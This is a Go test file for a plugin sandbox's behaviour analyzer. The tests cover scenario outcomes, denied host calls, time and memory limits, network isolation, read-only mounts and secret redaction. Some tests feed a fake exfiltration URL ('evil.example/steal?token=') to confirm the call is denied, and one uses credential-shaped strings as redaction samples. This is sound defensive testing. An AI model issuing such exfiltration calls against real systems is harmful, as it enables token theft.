package behaviour

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"gatehouse.dev/gatehouse/internal/vet"
	"gatehouse.dev/gatehouse/internal/vet/internal/plugintest"
	"gatehouse.dev/gatehouse/sandbox/scenario"
)

// TestExamplesOwnScenarios runs each example plugin with the tests/*.json
// it ships, in the format examples/README.md documents and the scaffold
// writes: every scenario passes, with its host calls recorded.
func TestExamplesOwnScenarios(t *testing.T) {
	a := newAnalyzer(t)
	for _, name := range []string{"counter", "notifier", "templater"} {
		t.Run(name, func(t *testing.T) {
			in := examplePackage(t, name, nil)
			rep, d := analyze(t, a, in)
			if len(rep.Findings) != 0 || d.Failed != 0 || d.Passed == 0 {
				t.Fatalf("passed %d, failed %d; findings: %s\ndetail: %+v", d.Passed, d.Failed, messages(rep.Findings), d.Scenarios)
			}
			for _, r := range d.Scenarios {
				if r.Duration <= 0 || r.HostCalls == nil {
					t.Errorf("%s: no duration or host calls recorded: %+v", r.Name, r)
				}
			}
			if name == "templater" && d.Mounts["/templates"] != "templates" {
				t.Errorf("mounts %v: /templates should be the package's templates folder", d.Mounts)
			}
			if name == "notifier" {
				fetched := false
				for _, r := range d.Scenarios {
					for _, hc := range r.HostCalls {
						fetched = fetched || (hc.Function == "http_fetch" && hc.Target == "https://hooks.example.com/v1/messages")
					}
				}
				if !fetched {
					t.Errorf("no scenario recorded the fetch to the hook: %+v", d.Scenarios)
				}
			}
		})
	}
}

func TestUnexpectedOutput(t *testing.T) {
	tests := `[
	  {"name": "renders the welcome template", "export": "render",
	   "input": {"template": "welcome.txt", "data": {"name": "Ada", "team": "Platform", "tasks": []}},
	   "expect": {"output": {"text": "Bonjour Ada"}}}
	]`
	in := examplePackage(t, "templater", map[string]string{"wrong.json": tests})
	rep, d := analyze(t, newAnalyzer(t), in)
	fs := byRule(rep.Findings, RuleUnexpectedOutput)
	if len(fs) != 1 || len(rep.Findings) != 1 {
		t.Fatalf("want one unexpected-output finding: %s", messages(rep.Findings))
	}
	f := fs[0]
	if f.Severity != vet.Medium || f.Location.File != "tests/wrong.json" || f.Location.Line != 2 ||
		!strings.Contains(f.Message, "Bonjour Ada") || !strings.Contains(f.Message, "Hello Ada") {
		t.Errorf("finding %+v: want expected and got in the message, at tests/wrong.json:2", f)
	}
	if d.Failed != 1 || d.Scenarios[0].Passed {
		t.Errorf("detail %+v", d)
	}
}

func TestDeniedCall(t *testing.T) {
	tests := `[{"name": "fetches from an origin it was not granted", "export": "fetch",
	  "input": {"url": "https://evil.example/steal?token=abc"},
	  "fetch": [{"request": {"url": "https://evil.example/steal?token=abc"}, "response": {"body": "never served"}}],
	  "expect": {"output": {"status": 200, "body": "never served"}}}]`
	rep, d := analyze(t, newAnalyzer(t), probePackage(t, "", map[string]string{"denied.json": tests}))
	fs := byRule(rep.Findings, RuleDeniedCall)
	if len(fs) != 1 {
		t.Fatalf("want one denied-call finding: %s", messages(rep.Findings))
	}
	f := fs[0]
	if f.Severity != vet.High || f.Properties["function"] != "http_fetch" || !strings.Contains(f.Message, "https://evil.example/steal") || f.Location.File != "tests/denied.json" {
		t.Errorf("finding %+v", f)
	}
	if d.Scenarios[0].Denied != 1 || d.Scenarios[0].Passed {
		t.Errorf("detail %+v", d.Scenarios[0])
	}
}

// TestInterpreterObservesWhatTheCompilerDoes: each example's scenarios
// and the probe's denied call give the same outcomes, host calls and
// findings on the interpreter (the default first pass) as on the
// compiler alone.
func TestInterpreterObservesWhatTheCompilerDoes(t *testing.T) {
	if raceBuild {
		t.Skip("a race build runs scenarios compiled only (race.go)")
	}
	fast := newAnalyzer(t)
	compiled, err := New(Options{CacheDir: t.TempDir(), CompiledOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { compiled.Close(context.Background()) })
	inputs := map[string]*vet.Input{
		"denied": probePackage(t, "", map[string]string{"denied.json": `[{"name": "fetches from an origin it was not granted", "export": "fetch",
		  "input": {"url": "https://evil.example/steal"},
		  "fetch": [{"request": {"url": "https://evil.example/steal"}, "response": {"body": "never served"}}],
		  "expect": {"output": {"status": 200, "body": "never served"}}}]`}),
	}
	for _, name := range []string{"counter", "notifier", "templater"} {
		inputs[name] = examplePackage(t, name, nil)
	}
	observed := func(a *Analyzer, in *vet.Input) (string, string) {
		rep, d := analyze(t, a, in)
		runs := slices.Clone(d.Scenarios)
		for i := range runs {
			runs[i].Duration = 0 // the engines' speeds differ; nothing else may
		}
		js, err := json.Marshal(struct {
			F []vet.Finding
			R []Run
		}{rep.Findings, runs})
		if err != nil {
			t.Fatal(err)
		}
		return string(js), d.Engine
	}
	for name, in := range inputs {
		t.Run(name, func(t *testing.T) {
			got, engine := observed(fast, in)
			want, _ := observed(compiled, in)
			if engine != EngineInterpreter {
				t.Errorf("engine %q, want the interpreter", engine)
			}
			if got != want {
				t.Errorf("the interpreter observed\n%s\nthe compiler\n%s", got, want)
			}
		})
	}
}

// TestLimitBreach reports each limit a scenario breaks. Each limit is
// proven alone so that a slow machine cannot turn one into the other: an
// endless loop reaches its 1 s limit at any speed, and the scenario that
// grows past its memory gets a time limit (a minute) no slowness reaches.
func TestLimitBreach(t *testing.T) {
	for _, tc := range []struct {
		scenario, export, kind string
		timeoutMillis          int
	}{
		{"spins", "spin", "timeout", 1000},
		{"grows", "grow", "out_of_memory", 60000},
	} {
		t.Run(tc.scenario, func(t *testing.T) {
			man := strings.Replace(string(plugintest.Source(t, "behaviourprobe", "manifest.json")),
				`"timeoutMillis": 1000`, fmt.Sprintf(`"timeoutMillis": %d`, tc.timeoutMillis), 1)
			a, err := New(Options{CacheDir: t.TempDir(), MaxCallTimeout: time.Duration(tc.timeoutMillis) * time.Millisecond, Timeout: 5 * time.Minute})
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { a.Close(context.Background()) })
			tests := fmt.Sprintf(`[{"name": %q, "export": %q, "input": {}, "expect": {"output": {}}}]`, tc.scenario, tc.export)
			rep, _ := analyze(t, a, probePackage(t, man, map[string]string{"limits.json": tests}))
			fs := byRule(rep.Findings, RuleLimitBreach)
			if len(fs) == 0 {
				t.Fatalf("no limit breach; findings: %s", messages(rep.Findings))
			}
			// A limit depends on the engine's speed: only the compiled
			// runs, as production runs the plugin, may report one.
			if d := rep.Detail.(*Detail); !raceBuild && !strings.HasPrefix(d.Engine, EngineCompiler+" (run again compiled") {
				t.Errorf("engine %q: a limit found on the interpreter was not confirmed compiled", d.Engine)
			}
			for _, f := range fs {
				if f.Severity != vet.High {
					t.Errorf("severity %s: %s", f.Severity, f.Message)
				}
				if got := f.Properties["scenario"].(string) + "/" + f.Properties["errorKind"].(string); got != tc.scenario+"/"+tc.kind {
					t.Errorf("limit breach %s, want %s/%s: %s", got, tc.scenario, tc.kind, f.Message)
				}
			}
		})
	}
}

// TestNeverReachesTheNetwork grants the origin of a real local server and
// fetches from it with no fake: the plugin must see a failure and the
// server no request.
func TestNeverReachesTheNetwork(t *testing.T) {
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprint(w, "served")
	}))
	defer srv.Close()
	man := strings.Replace(string(plugintest.Source(t, "behaviourprobe", "manifest.json")), "https://api.example.com", srv.URL, 1)
	tests := fmt.Sprintf(`[{"name": "fetch with no fake", "export": "fetch", "input": {"url": %q}, "expect": {"output": {"status": 200, "body": "served"}}}]`, srv.URL+"/x")
	rep, d := analyze(t, newAnalyzer(t), probePackage(t, man, map[string]string{"net.json": tests}))
	if hits.Load() != 0 {
		t.Fatalf("the server was reached %d times", hits.Load())
	}
	if len(d.Scenarios) != 1 || d.Scenarios[0].Passed || len(d.Scenarios[0].Unfaked) != 1 {
		t.Errorf("detail %+v", d.Scenarios)
	}
	if fs := byRule(rep.Findings, RuleUnexpectedOutput); len(fs) != 1 || !strings.Contains(fs[0].Message, "without a fake") {
		t.Errorf("findings: %s", messages(rep.Findings))
	}
}

func TestScenarioErrors(t *testing.T) {
	tests := map[string]string{
		"broken.json":  `[{"name": "typo", "export": "fetch", "input": {}, "expcted": {}}]`,
		"missing.json": `[{"name": "calls an export that does not exist", "export": "nope", "input": {}, "expect": {"output": {}}}]`,
	}
	rep, _ := analyze(t, newAnalyzer(t), probePackage(t, "", tests))
	files := map[string]bool{}
	for _, f := range byRule(rep.Findings, RuleScenarioError) {
		files[f.Location.File] = true
	}
	if !files["tests/broken.json"] || !files["tests/missing.json"] {
		t.Errorf("scenario errors in %v; findings: %s", files, messages(rep.Findings))
	}
}

func TestSkipped(t *testing.T) {
	in := probePackage(t, "", nil)
	_, err := newAnalyzer(t).Analyze(context.Background(), in)
	if !errors.Is(err, vet.ErrSkipped) || !strings.Contains(err.Error(), "no test scenarios") {
		t.Errorf("err = %v, want skipped: no test scenarios", err)
	}
	in.Manifest = nil
	if _, err := newAnalyzer(t).Analyze(context.Background(), in); !errors.Is(err, vet.ErrSkipped) {
		t.Errorf("no manifest: err = %v, want skipped", err)
	}
}

// TestFindingsFromOutcome checks the mapping from a scenario's outcome to
// findings for what a real module cannot easily be made to do on demand,
// such as differing between two runs.
func TestFindingsFromOutcome(t *testing.T) {
	r := &report{}
	s := scenario.Scenario{Name: "n", Export: "e"}
	r.scenario(s, outcome{Run: Run{File: "tests/a.json"}, nondeterministic: true, difference: "the outputs differ: 1 and 2"}, vet.Location{File: "tests/a.json", Line: 3})
	if len(r.findings) != 1 || r.findings[0].RuleID != RuleNondeterministic || r.findings[0].Severity != vet.Low || !strings.Contains(r.findings[0].Message, "1 and 2") {
		t.Errorf("findings %+v", r.findings)
	}
}

func TestSecretsNotEchoed(t *testing.T) {
	key := "sk_live_" + strings.Repeat("4eC39HqLyjWDarjtT1zdp7dc", 1)
	r := &report{}
	s := scenario.Scenario{Name: "n", Export: "e", Expect: scenario.Expect{Output: json.RawMessage(`{"ok":true}`)}}
	r.scenario(s, outcome{Run: Run{File: "tests/a.json"}, mismatch: `output {"key":"` + key + `"} differs from the expected {"ok":true}`}, vet.Location{})
	b, _ := json.Marshal(r.findings)
	if len(r.findings) != 1 || strings.Contains(string(b), key[4:]) {
		t.Errorf("the finding echoes the key: %s", b)
	}
	for in, want := range map[string]string{
		"see /templates/welcome2024/report.txt and 12345678901234567890123": "see /templates/welcome2024/report.txt and 12345678901234567890123",
		"GET https://hooks2.example.com/v1/messages":                        "GET https://hooks2.example.com/v1/messages",
		"key=AKIAQYLPMN5HHHFPZAM2":                                          "key=…",
		"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlMTIz":      "Bearer eyJh…",
	} {
		if got := redact(in); got != want {
			t.Errorf("redact(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestMountsAreThePackagesOwn: a mount resolves to the package's folder
// of that name, copied out, never to a host path.
func TestMountsAreThePackagesOwn(t *testing.T) {
	in := examplePackage(t, "templater", map[string]string{"t.json": `[]`})
	tmp := t.TempDir()
	host, shown, err := mounts(tmp, in)
	if err != nil {
		t.Fatal(err)
	}
	dir := host["/templates"]
	if !strings.HasPrefix(dir, tmp) || shown["/templates"] != "templates" {
		t.Fatalf("mount %q (%v)", dir, shown)
	}
	got, err := os.ReadFile(filepath.Join(dir, "welcome.txt"))
	want, _ := in.Package.File("templates/welcome.txt")
	if err != nil || string(got) != string(want) {
		t.Errorf("welcome.txt in the mount: %q, %v", got, err)
	}
	if fi, err := os.Stat(filepath.Join(dir, "welcome.txt")); err != nil || fi.Mode().Perm()&0o222 != 0 {
		t.Errorf("mounted file is writable: %v %v", fi.Mode(), err)
	}
}

// TestPluginThatDoesNotLoad: a module importing a host function its
// manifest does not grant never loads; one finding says so, at the module.
func TestPluginThatDoesNotLoad(t *testing.T) {
	man := strings.Replace(string(plugintest.Source(t, "behaviourprobe", "manifest.json")), `"permissions": ["net:https://api.example.com"]`, `"permissions": []`, 1)
	tests := `[{"name": "a", "export": "spin", "input": {}, "expect": {"output": {}}}, {"name": "b", "export": "grow", "input": {}, "expect": {"output": {}}}]`
	rep, d := analyze(t, newAnalyzer(t), probePackage(t, man, map[string]string{"t.json": tests}))
	if len(rep.Findings) != 1 || rep.Findings[0].RuleID != RuleScenarioError || rep.Findings[0].Severity != vet.High ||
		rep.Findings[0].Location.File != "plugin.wasm" || !strings.Contains(rep.Findings[0].Message, "http_fetch") {
		t.Errorf("findings: %s", messages(rep.Findings))
	}
	if len(d.Scenarios) != 0 {
		t.Errorf("scenarios ran: %+v", d.Scenarios)
	}
}
